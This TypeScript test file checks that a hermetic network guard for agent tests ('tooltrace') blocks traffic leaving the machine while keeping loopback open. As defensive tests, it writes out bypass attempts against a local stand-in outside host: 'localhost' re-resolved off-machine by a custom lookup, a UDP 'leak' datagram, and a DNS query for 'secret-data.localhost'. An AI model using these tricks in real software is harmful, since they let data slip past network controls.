import { type ChildProcess, execFile, spawn } from "node:child_process";
import { createSocket } from "node:dgram";
import { subscribe, unsubscribe } from "node:diagnostics_channel";
import { promises as dns, type LookupAddress } from "node:dns";
import { writeFileSync } from "node:fs";
import { get as httpGet, createServer as createHttpServer } from "node:http";
import { connect as connectTcp, createServer as createTcpServer } from "node:net";
import { join } from "node:path";
import { promisify, stripVTControlCharacters } from "node:util";
import OpenAI from "openai";
import { Agent, request as undiciRequest } from "undici";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createSession, takeRefusals } from "tooltrace";
import { addressBeyondLoopback, type CountingUpstream, startCountingUpstream } from "../fixtures/counting-process.js";
import { projectInstalled, projectWithPackage } from "../fixtures/installed-project.js";

// The holes where a guard decided on a name, not on the address a connection, datagram or query went to (and
// the other way round: loopback refused because it was spelled otherwise). The run is hermetic (this project's
// config is `tooltrace()`); a counting upstream in a process of its own, on this machine's address beyond
// loopback, stands for a host outside the machine: an empty list of its lines is what nothing escaped means.
let outside: CountingUpstream;
let gateway: { port: number; events: string[]; stop(): void };
/** Whether this machine has IPv6 loopback (`::1`) to listen on: the case that needs it is skipped where it has not. */
const ipv6Loopback = await new Promise<boolean>((resolve) => {
  const server = createTcpServer();
  server.once("error", () => resolve(false));
  server.listen(0, "::1", () => server.close(() => resolve(true)));
});

beforeAll(async () => {
  [outside, gateway] = await Promise.all([startCountingUpstream(addressBeyondLoopback()), startLocalGateway()]);
}, 30_000);
afterAll(() => {
  outside.stop();
  gateway.stop();
});

/** `local-gateway.mjs` in a process of its own on loopback, and the lines it printed (one per request). */
async function startLocalGateway(): Promise<{ port: number; events: string[]; stop(): void }> {
  const child: ChildProcess = spawn(process.execPath, [join(import.meta.dirname, "../fixtures/local-gateway.mjs")], {
    stdio: ["pipe", "pipe", "inherit"],
  });
  const events: string[] = [];
  const port = await new Promise<number>((resolve, reject) => {
    child.on("error", reject);
    child.stdout?.setEncoding("utf8").on("data", (chunk: string) => {
      for (const line of chunk.split("\n").filter(Boolean)) {
        if (line.startsWith("PORT ")) resolve(Number(line.slice(5)));
        else events.push(line);
      }
    });
  });
  return { port, events, stop: () => child.stdin?.end() };
}

/** Every line the outside host printed since `from`, once what is on its way over the pipe has come. */
async function reachedOutside(from: number): Promise<string[]> {
  await new Promise((resolve) => setTimeout(resolve, 200));
  return outside.events.slice(from);
}

/** A `lookup` option that resolves every name to the outside host, in the shapes `net` and `dgram` ask for. */
function lookupToOutside(_name: string, options: unknown, callback: (...args: unknown[]) => void): void {
  const address = outside.host;
  if (typeof options === "object" && options !== null && (options as { all?: boolean }).all === true)
    callback(null, [{ address, family: 4 } satisfies LookupAddress]);
  else callback(null, address, 4);
}

/** The refusal in an error, however deep its client wrapped it; else what the error said. */
function refusalIn(error: unknown): string {
  for (let current = error; current instanceof Error; current = current.cause)
    if (current.message.includes("tooltrace refused it")) return current.message;
  return `failed: ${error instanceof Error ? error.message : String(error)}`;
}

/** "reached" when the peer answered, else the refusal (or the failure). */
const attempt = (probe: () => Promise<unknown>) =>
  Promise.resolve()
    .then(probe)
    .then(
      () => "reached",
      (error: unknown) => refusalIn(error),
    );

/** Each client, asked for "localhost" with a `lookup` that resolves it to the outside host. */
const viaLookup: Record<string, () => Promise<unknown>> = {
  "http.get": () =>
    new Promise((resolve, reject) => {
      const request = httpGet(
        { host: "localhost", port: outside.ports.http, path: "/via-lookup", lookup: lookupToOutside as never, agent: false },
        (response) => response.resume().on("end", resolve),
      );
      request.on("error", reject);
    }),
  "net.connect": () =>
    new Promise((resolve, reject) => {
      const socket = connectTcp({ host: "localhost", port: outside.ports.raw, lookup: lookupToOutside as never }, () =>
        socket.write("GET /via-lookup HTTP/1.1\r\n\r\n"),
      );
      socket.on("data", () => resolve(socket.destroy()));
      socket.on("error", reject);
    }),
  "an undici Agent": async () => {
    const dispatcher = new Agent({ connect: { lookup: lookupToOutside as never } });
    try {
      await (await undiciRequest(`http://localhost:${outside.ports.http}/via-lookup`, { dispatcher })).body.text();
    } finally {
      await dispatcher.close();
    }
  },
};

// Runs first: before this file's first session, as in a test file that makes none.
describe("an LLM API request outside any session", () => {
  test("the OpenAI SDK at its default host gets the provider's own error naming `llm`, once, as in a session", async () => {
    // Every connection any client of this process starts, to see that none was even dialed.
    const dialed: string[] = [];
    const onUndici = (event: unknown) => {
      const { hostname, port } = (event as { connectParams: { hostname: string; port: string } }).connectParams;
      dialed.push(`undici ${hostname}:${port}`);
    };
    const onSocket = () => dialed.push("net.Socket");
    subscribe("undici:client:beforeConnect", onUndici);
    subscribe("net.client.socket", onSocket);
    let attempts = 0;
    const client = new OpenAI({ apiKey: "sk-test", fetch: (input, init) => ((attempts += 1), fetch(input, init)) });
    const error = await client.chat.completions.create({ model: "gpt-5", messages: [{ role: "user", content: "hi" }] }).then(
      () => undefined,
      (failure: unknown) => failure,
    );
    unsubscribe("undici:client:beforeConnect", onUndici);
    unsubscribe("net.client.socket", onSocket);
    const refusals = takeRefusals();
    expect(dialed).toEqual([]);
    expect({ attempts, message: (error as Error | undefined)?.message }).toEqual({ attempts: 1, message: expect.stringContaining("llm") });
    expect(error).toBeInstanceOf(OpenAI.APIError);
    expect((error as InstanceType<typeof OpenAI.APIError>).status).toEqual(expect.any(Number));
    expect(refusals).toEqual([expect.stringContaining("api.openai.com")]);
  });
});

describe("the hermetic guard decides on the address a connection goes to, not the name it was asked for", () => {
  for (const [name, probe] of Object.entries(viaLookup)) {
    // The attack: "localhost" with a `lookup` that resolves it beyond the machine.
    test(`${name} to "localhost" resolved beyond loopback by its \`lookup\` option is refused outside a session`, async () => {
      const from = outside.events.length;
      const outcome = await attempt(probe);
      expect({ outcome, reached: await reachedOutside(from) }).toEqual({
        outcome: expect.stringContaining(outside.host),
        reached: [],
      });
      expect(takeRefusals()).toContainEqual(expect.stringContaining(outside.host));
    });

    test(`${name} to "localhost" resolved beyond loopback by its \`lookup\` option is refused in a session, naming the address`, async () => {
      const from = outside.events.length;
      const session = createSession({ agent: async () => (await probe(), "reached") });
      const turn = await session.send("go");
      expect({ status: turn.status, reached: await reachedOutside(from) }).toEqual({ status: "failed", reached: [] });
      expect(session.takeViolations()).toContainEqual(expect.stringContaining(outside.host));
    });
  }

  // The attack: a UDP socket whose `lookup` resolves "localhost" beyond the machine.
  test('a dgram socket with such a `lookup` does not send its datagram to "localhost" beyond loopback', async () => {
    const from = outside.events.length;
    const socket = createSocket({ type: "udp4", lookup: lookupToOutside as never });
    const outcome = await attempt(
      () =>
        new Promise<void>((resolve, reject) =>
          socket.send("leak", outside.ports.udp, "localhost", (error) => (error ? reject(error) : resolve())),
        ),
    );
    socket.close();
    expect({ outcome, reached: await reachedOutside(from) }).toEqual({
      outcome: expect.stringContaining("tooltrace refused it"),
      reached: [],
    });
    expect(takeRefusals()).toContainEqual(expect.stringContaining(outside.host));
  });

  // The attack: a Resolver whose server is beyond the machine, asked for a name under `.localhost`.
  test("a DNS query to a server beyond loopback is refused, whatever name it asks for", async () => {
    const from = outside.events.length;
    const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
    resolver.setServers([`${outside.host}:${outside.ports.dns}`]);
    const outcome = await attempt(() => resolver.resolve4("secret-data.localhost"));
    expect({ outcome, reached: await reachedOutside(from) }).toEqual({
      outcome: expect.stringContaining("tooltrace refused it"),
      reached: [],
    });
    expect(takeRefusals()).toContainEqual(expect.stringContaining("tooltrace refused it"));
  });
});

describe("loopback stays open however it is spelled", () => {
  // The attack's other side: loopback written as an IPv4-mapped IPv6 address was refused as if remote.
  test("fetch to the test's own server at http://[::ffff:127.0.0.1]:port/ reaches it", async () => {
    const seen: string[] = [];
    const server = createHttpServer((request, response) => (seen.push(request.url ?? ""), response.end("own")));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port } = server.address() as { port: number };
    const outcome = await fetch(`http://[::ffff:127.0.0.1]:${port}/mapped`).then(
      (response) => response.text(),
      (error: unknown) => refusalIn(error),
    );
    server.close();
    expect({ outcome, seen }).toEqual({ outcome: "own", seen: ["/mapped"] });
    expect(takeRefusals()).toEqual([]);
  });

  // The attack's other side: ::1 written in full was refused as if remote.
  test.skipIf(!ipv6Loopback)("net.connect to 0:0:0:0:0:0:0:1 reaches the test's own server on ::1", async () => {
    const server = createTcpServer((socket) => socket.end("own"));
    await new Promise<void>((resolve) => server.listen(0, "::1", resolve));
    const { port } = server.address() as { port: number };
    const outcome = await attempt(
      () =>
        new Promise((resolve, reject) => {
          const socket = connectTcp({ host: "0:0:0:0:0:0:0:1", port });
          socket.setEncoding("utf8").on("data", resolve);
          socket.on("error", reject);
        }),
    );
    server.close();
    expect(outcome).toBe("reached");
    expect(takeRefusals()).toEqual([]);
  });
});

// The attack on the reader: a refused fetch's refusal said again and again in one test's failure.
test.skipIf(!projectInstalled)("a refused fetch in a session fails its test with the refusal said once", { timeout: 60_000 }, async () => {
  const project = projectWithPackage("refused-once");
  writeFileSync(
    join(project, "vitest.config.mjs"),
    'import { defineConfig } from "vitest/config";\nimport { tooltrace } from "tooltrace/vitest";\nexport default defineConfig({ plugins: [tooltrace()], test: { include: ["*.test.mjs"] } });\n',
  );
  writeFileSync(
    join(project, "orders.test.mjs"),
    `import { expect, test } from "vitest";
import { createSession } from "tooltrace";

test("lists the orders", async () => {
  const session = createSession({ agent: async () => (await fetch(\`\${process.env.OUTSIDE_URL}/v1/orders\`)).text() });
  expect(await session.send("List my orders.")).toSucceed();
});
`,
  );
  const from = outside.events.length;
  const run = await promisify(execFile)(process.execPath, [join(project, "node_modules", "vitest", "vitest.mjs"), "run"], {
    cwd: project,
    env: { ...process.env, CI: "1", NO_COLOR: "1", OUTSIDE_URL: outside.url },
  }).catch((error: { stdout: string; stderr: string }) => error);
  const output = stripVTControlCharacters(`${run.stdout}\n${run.stderr}`);
  expect(output).toMatch(/Tests\s+1 failed \(1\)/);
  expect(await reachedOutside(from)).toEqual([]);
  const sentence = `GET ${outside.url}/v1/orders was sent, and tooltrace refused it`;
  expect(output.split(sentence).length - 1, output).toBe(1);
});

// The attack: a session scripts the model, and the agent's client goes to a local gateway that answers for real.
describe("never silently live", () => {
  let client: OpenAI;
  beforeAll(() => {
    // Made when the agent's module loads, outside any session, as an app's client is.
    client = new OpenAI({ apiKey: "sk-test", baseURL: `http://127.0.0.1:${gateway.port}/v1` });
  });

  test("a session's `llm` answers a client pointed at a local gateway, or the test is told, naming `llm` and the gateway", async () => {
    const agent = async (message: string) =>
      (await client.chat.completions.create({ model: "gpt-5", messages: [{ role: "user", content: message }] })).choices[0]?.message
        .content ?? "";
    const from = gateway.events.length;
    const session = createSession({ agent, llm: ["Mocked reply"] });
    const turn = await session.send("hello");
    const violations = session.takeViolations();
    await new Promise((resolve) => setTimeout(resolve, 200));
    const reachedGateway = gateway.events.slice(from);
    const mocked = turn.text === "Mocked reply" && reachedGateway.length === 0;
    const told = violations.some((violation) => violation.includes("llm") && violation.includes(`127.0.0.1:${gateway.port}`));
    expect(mocked || told, JSON.stringify({ text: turn.text, reachedGateway, violations })).toBe(true);
  });
});
